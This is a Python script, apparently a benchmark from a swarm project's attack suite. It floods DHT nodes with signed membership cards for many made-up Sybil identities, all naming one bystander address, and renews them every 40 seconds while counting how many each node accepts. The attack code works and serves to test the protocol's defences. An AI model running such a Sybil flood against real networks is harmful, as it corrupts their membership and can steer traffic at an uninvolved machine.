"""Cards of made-up members, stored over one connection to each node, all naming one machine that has nothing to do
with the swarm.

    python -m benchmarks.attacks.cards SWARM CARDS SECONDS PORT ADDRESS...

PORT is where the bystander listens, on 127.0.0.1; the cards are renewed each 40 s. The last line is JSON.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time
from contextlib import AsyncExitStack
from typing import Any

import msgspec
from hivemind.dht.node import DHTID
from hivemind.proto import dht_pb2

from benchmarks.attacks.hostile import call, dht_peer
from swarm_protocol.codec import sign_card
from swarm_protocol.identity import Identity
from swarm_protocol.messages import PROTOCOL_VERSION, PeerCard
from swarm_protocol.topics import bucket_of, membership_key

RENEWED_S = 40.0
IN_ONE = 16
"""Cards in one request: more is refused whole."""


async def flood(swarm: str, crowd: list[Identity], port: int, p2p: Any, victim: Any) -> int:
    """Cards that the victim took."""
    taken, now = 0, time.time()
    for start in range(0, len(crowd), IN_ONE):
        part = crowd[start : start + IN_ONE]
        values = []
        for me in part:
            way = [f"/ip4/127.0.0.1/tcp/{port}/p2p/{me.peer_id}"]
            card = PeerCard(PROTOCOL_VERSION, swarm, now, "sybil", ["trainer"], way, way, me.peer_id)
            values.append(msgspec.msgpack.encode(sign_card(card, me)))
        request = dht_pb2.StoreRequest(
            keys=[DHTID.generate(membership_key(swarm, bucket_of(me.peer_id))).to_bytes() for me in part],
            subkeys=[msgspec.msgpack.encode(me.peer_id) for me in part],
            values=values,
            expiration_time=[now + 59] * len(part),
            in_cache=[False] * len(part),
        )
        try:
            taken += sum((await call(p2p, victim, "rpc_store", request, dht_pb2.StoreResponse, 60)).store_ok)
        except Exception as error:  # a refusal counts as nothing taken
            print(f"refused: {error!r}"[:200], flush=True)
    return taken


async def main() -> None:
    swarm, cards, seconds, port = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    crowd = [Identity.generate() for _ in range(cards)]
    taken: list[list[int]] = []
    async with AsyncExitStack() as stack:
        victims = [await stack.enter_async_context(dht_peer(address)) for address in sys.argv[5:]]
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            began = time.monotonic()
            taken.append([await flood(swarm, crowd, port, *victim) for victim in victims])
            await asyncio.sleep(min(max(0.0, RENEWED_S - (time.monotonic() - began)), max(0.0, end - time.monotonic())))
    print(json.dumps({"cards": cards, "taken_by_each": taken}), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
